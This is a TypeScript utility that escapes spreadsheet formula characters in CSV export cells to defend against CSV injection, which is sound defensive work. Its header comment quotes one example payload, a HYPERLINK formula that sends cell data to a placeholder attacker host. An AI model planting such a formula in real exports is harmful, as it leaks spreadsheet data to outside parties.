/**
 * Spreadsheet-safe CSV cells (OWASP "CSV injection"): a cell that begins with `=`, `+`, `-`, `@`,
 * a tab or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets, so
 * log content such as `=HYPERLINK("http://evil.example/?x="&A1)` would run when an auditor opens
 * the export. Such a cell gets a leading apostrophe, which spreadsheets show as text and never
 * evaluate. Only text is neutralized: numbers stay numbers (a negative byte count is not a formula).
 */

/** The characters that start a formula, as a character class usable in JS and in DuckDB's RE2. */
export const FORMULA_START_CLASS = '[=+\\-@\\t\\r]';

const FORMULA_START = new RegExp(`^${FORMULA_START_CLASS}`);

export function neutralizeCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One CSV field, quoted when it holds a separator, a quote or a line break (RFC 4180). */
export function csvField(value: unknown, options: { rawCells?: boolean } = {}): string {
  if (value === null || value === undefined) return '';
  const isText = typeof value === 'string' || typeof value === 'object';
  let text = typeof value === 'object' ? JSON.stringify(value) : String(value);
  if (isText && !options.rawCells) text = neutralizeCell(text);
  return /[",\n\r]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

export function csvText(columns: readonly string[], rows: readonly (readonly unknown[])[], options: { rawCells?: boolean } = {}): string {
  return [columns.map((c) => csvField(c, options)).join(','), ...rows.map((r) => r.map((v) => csvField(v, options)).join(','))].join('\r\n');
}
